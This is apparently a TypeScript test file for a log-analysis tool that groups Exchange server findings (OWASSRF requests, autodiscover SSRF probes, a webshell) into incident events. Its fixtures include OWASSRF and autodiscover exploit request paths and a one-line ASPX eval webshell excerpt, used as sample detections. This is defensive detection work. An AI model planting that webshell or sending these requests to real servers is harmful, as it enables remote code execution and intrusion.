// The events section: one event per request with every log's line, ordered by what matters, probes grouped.

import assert from 'node:assert/strict';
import test from 'node:test';
import type { Finding } from '../core/finding.js';
import type { EventsSection } from '../core/report.js';
import { buildIncident } from './incident.js';
import { finding, report, resetIds, w3c } from './testkit.js';

const FE = 'inetpub/logs/LogFiles/W3SVC1/u_ex221108.log';
const BE = 'inetpub/logs/LogFiles/W3SVC2/u_ex221108.log';
const HP =
  'Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/PowerShell/HttpProxy_2022110810-1.LOG';
const RPS =
  'Program Files/Microsoft/Exchange Server/V15/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022110810-1.LOG';
const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/105.0.5195.54';
const ATTACKER = '203.0.113.77';
const SERVER = '10.0.0.5';
const RID = '5f1c7a5e-3b0e-4c55-9c1e-2f7d0b8a9c11';

const rule = (id: string, title: string) => ({ id, title, author: 'exhunt', source: 'exhunt' });

/** OWASSRF: the front-end IIS line, the HttpProxy row, the back-end IIS line and the Rps_Http row of one request. */
function owassrf(): Finding[] {
  const stem = '/owa/mastermailbox%40outlook.com/powershell';
  return [
    finding({
      rule: rule('exhunt.owassrf.frontend', 'OWASSRF front-end request'),
      outcome: 'attempt',
      time: '2022-11-08T10:15:30.000Z',
      sourceIps: [ATTACKER],
      userAgent: UA,
      path: FE,
      line: 812,
      details: { method: 'POST', url: stem, httpStatus: '200', requestId: RID },
      excerpt: w3c({ time: '2022-11-08T10:15:30Z', method: 'POST', stem, query: `&CorrelationID=<empty>;&cafeReqId=${RID};`, ip: ATTACKER, ua: UA }), // prettier-ignore
    }),
    finding({
      rule: rule('exhunt.owassrf.httpproxy', 'OWASSRF through the OWA proxy'),
      outcome: 'success',
      time: '2022-11-08T10:15:30.412Z',
      sourceIps: [ATTACKER],
      userAgent: UA,
      path: HP,
      line: 40,
      details: { method: 'POST', url: stem, requestId: RID, httpStatus: '200' },
      excerpt: `2022-11-08T10:15:30.412Z,${RID},15,2,1118,7,,PowerShell,mail.corp.example,${stem},...,BeginRequest=2022-11-08T10:15:29.900Z;`,
    }),
    finding({
      rule: rule('exhunt.owassrf.backend', 'Remote PowerShell on the back end for an OWA client'),
      outcome: 'attempt',
      time: '2022-11-08T10:15:30.000Z',
      sourceIps: [SERVER],
      userAgent: UA,
      path: BE,
      line: 9001,
      details: { method: 'POST', url: '/powershell', httpStatus: '200' },
      excerpt: w3c({ time: '2022-11-08T10:15:30Z', method: 'POST', stem: '/powershell', port: 444, user: 'CORP\\EXCH01$', ip: SERVER, ua: UA, serverIp: SERVER }), // prettier-ignore
    }),
    finding({
      rule: rule('exhunt.rps.unusual-client', 'Remote PowerShell from an unusual client'),
      outcome: 'success',
      stage: 'execution',
      time: '2022-11-08T10:15:30.390Z',
      sourceIps: [ATTACKER],
      path: RPS,
      line: 7,
      // What the engine reads from the row's RequestId field.
      request: { requestId: RID.toLowerCase() },
      excerpt: `2022-11-08T10:15:30.390Z,2022-11-08T10:15:29.950Z,${RID},15,2,1118,7,,mail.corp.example,/powershell,Kerberos,true,corp\\admin,,,${ATTACKER},EXCH01,EXCH01.corp.local,200,0,,,,,,,,,,${UA}`,
    }),
  ];
}

function probe(o: { time: string; ip: string; stem?: string; ruleId?: string }): Finding {
  return finding({
    rule: rule(o.ruleId ?? 'exhunt.probe.autodiscover', 'Autodiscover SSRF probe'),
    stage: 'recon',
    outcome: 'probe',
    severity: 'low',
    time: o.time,
    sourceIps: [o.ip],
    userAgent: 'zgrab/0.x',
    path: FE,
    excerpt: w3c({ time: o.time, stem: o.stem ?? '/autodiscover/autodiscover.json', query: '@zdi/Powershell', ip: o.ip, ua: 'zgrab/0.x', status: 302 }), // prettier-ignore
  });
}

const eventsOf = (fs: Finding[]): EventsSection => buildIncident(report(fs)).events;

test('the front-end IIS, HttpProxy, back-end IIS and Rps_Http rows of one request are one event', () => {
  resetIds();
  const fs = owassrf();
  const ev = eventsOf(fs);
  assert.equal(ev.list.length, 1, 'one event');
  const e = ev.list[0]!;
  assert.deepEqual([...e.findings].sort(), fs.map((f) => f.id).sort());
  assert.equal(e.lines.length, 4, 'four pieces of evidence');
  assert.deepEqual(
    e.lines.map((l) => l.log),
    ['front-end IIS', 'back-end IIS', 'remote PowerShell (Rps_Http)', 'HttpProxy PowerShell'],
    'every log named, in time order (front end first when the second ties)',
  );
  assert.deepEqual(
    e.lines.map((l) => `${l.path}:${l.line}`).sort(),
    [`${BE}:9001`, `${FE}:812`, `${HP}:40`, `${RPS}:7`].sort(),
  );
  assert.ok(e.requestIds.includes(RID), 'the request id that joined them');
  assert.deepEqual(e.addresses, [ATTACKER], 'the attacker, not the front end seen from the back end');
  assert.equal(e.outcome, 'success');
  assert.equal(e.time, '2022-11-08T10:15:30.000Z');
  assert.equal(e.last, '2022-11-08T10:15:30.412Z');
  assert.equal(e.userAgent, UA);
  assert.equal(e.session, 'S1');
});

test('two requests from one address a second apart are two events of one session', () => {
  resetIds();
  const a = owassrf();
  const rid2 = '0b7e2d1c-1111-4a2b-8c3d-4e5f6a7b8c9d';
  const b = finding({
    rule: rule('exhunt.owassrf.frontend', 'OWASSRF front-end request'),
    outcome: 'attempt',
    time: '2022-11-08T10:15:31.000Z',
    sourceIps: [ATTACKER],
    userAgent: UA,
    path: FE,
    line: 813,
    details: { method: 'POST', url: '/owa/x%40y.com/powershell', httpStatus: '200', requestId: rid2 },
    excerpt: w3c({ time: '2022-11-08T10:15:31Z', method: 'POST', stem: '/owa/x%40y.com/powershell', query: `&cafeReqId=${rid2};`, ip: ATTACKER, ua: UA }), // prettier-ignore
  });
  const ev = eventsOf([...a, b]);
  assert.equal(ev.list.length, 2);
  const second = ev.list.find((e) => e.findings.includes(b.id));
  assert.ok(second);
  assert.deepEqual(second.findings, [b.id]);
  assert.deepEqual(second.requestIds, [rid2]);
  assert.deepEqual(new Set(ev.list.map((e) => e.session)), new Set(['S1']), 'one session');
});

test('compromise first, then exploitation, then attempts; probes grouped after them with count, first, last, sources', () => {
  resetIds();
  const shell = finding({
    rule: rule('exhunt.webshell.file', 'Webshell in a web-served folder'),
    stage: 'webshell-write',
    outcome: 'compromise',
    time: '2022-11-09T00:00:00.000Z',
    path: 'inetpub/wwwroot/aspnet_client/x.aspx',
    line: null,
    details: { path: 'inetpub/wwwroot/aspnet_client/x.aspx' },
    excerpt: '<%eval(Request.Item["p"],"unsafe");%>',
  });
  const attempt = finding({
    outcome: 'attempt',
    time: '2022-11-01T00:00:00.000Z',
    sourceIps: ['198.51.100.1'],
    excerpt: w3c({
      time: '2022-11-01T00:00:00Z',
      stem: '/ecp/y.js',
      ip: '198.51.100.1',
      ua: 'x',
      status: 401,
    }),
  });
  const probes = [
    probe({ time: '2022-11-02T00:00:00.000Z', ip: '192.0.2.10' }),
    probe({ time: '2022-11-02T00:00:01.000Z', ip: '192.0.2.10' }),
    probe({ time: '2022-11-03T05:00:00.000Z', ip: '192.0.2.11' }),
    probe({
      time: '2022-11-04T00:00:00.000Z',
      ip: '192.0.2.12',
      ruleId: 'exhunt.probe.other',
      stem: '/owa/auth/x.js',
    }),
  ];
  const context = finding({ outcome: 'context', stage: 'context', time: '2022-11-05T00:00:00Z', path: 'x.zip', line: null }); // prettier-ignore
  const ev = eventsOf([...probes, attempt, context, ...owassrf(), shell]);
  assert.deepEqual(
    ev.list.map((e) => e.outcome),
    ['compromise', 'success', 'attempt'],
    'strongest first, whatever the time',
  );
  assert.equal(ev.list[0]?.lines[0]?.log, 'file');
  assert.equal(ev.probes.length, 2);
  const g = ev.probes[0]!;
  assert.equal(g.id, 'P1');
  assert.equal(g.rule.id, 'exhunt.probe.autodiscover', 'the largest group first');
  assert.equal(g.count, 3, 'three requests, one group');
  assert.equal(g.first, '2022-11-02T00:00:00.000Z');
  assert.equal(g.last, '2022-11-03T05:00:00.000Z');
  assert.deepEqual(g.sources, ['192.0.2.10', '192.0.2.11'], 'most frequent address first');
  assert.equal(g.sourceCount, 2);
  assert.deepEqual(g.requests, [{ value: 'GET /autodiscover/autodiscover.json', count: 3 }]);
  assert.equal(g.example[0]?.line, probes[0]?.evidence[0]?.line, 'the earliest request as the example');
  assert.equal(ev.probes[1]?.count, 1);
  assert.deepEqual(
    ev.context.map((c) => c.findings),
    [[context.id]],
  );
  assert.ok(!ev.list.some((e) => e.outcome === 'probe'), 'probes are never listed one by one');
});

test('lines carry the rule and its author, and long excerpts are cut', () => {
  resetIds();
  const f = finding({
    rule: { id: 'sigma.x', title: 'Community rule', author: 'A. Author', source: 'sigma' },
    outcome: 'attempt',
    time: '2022-11-01T00:00:00Z',
    sourceIps: ['198.51.100.9'],
    excerpt: 'x'.repeat(5000),
  });
  const e = eventsOf([f]).list[0]!;
  assert.equal(e.lines[0]?.rule.author, 'A. Author');
  assert.ok((e.lines[0]?.excerpt.length ?? 0) < 1000);
});
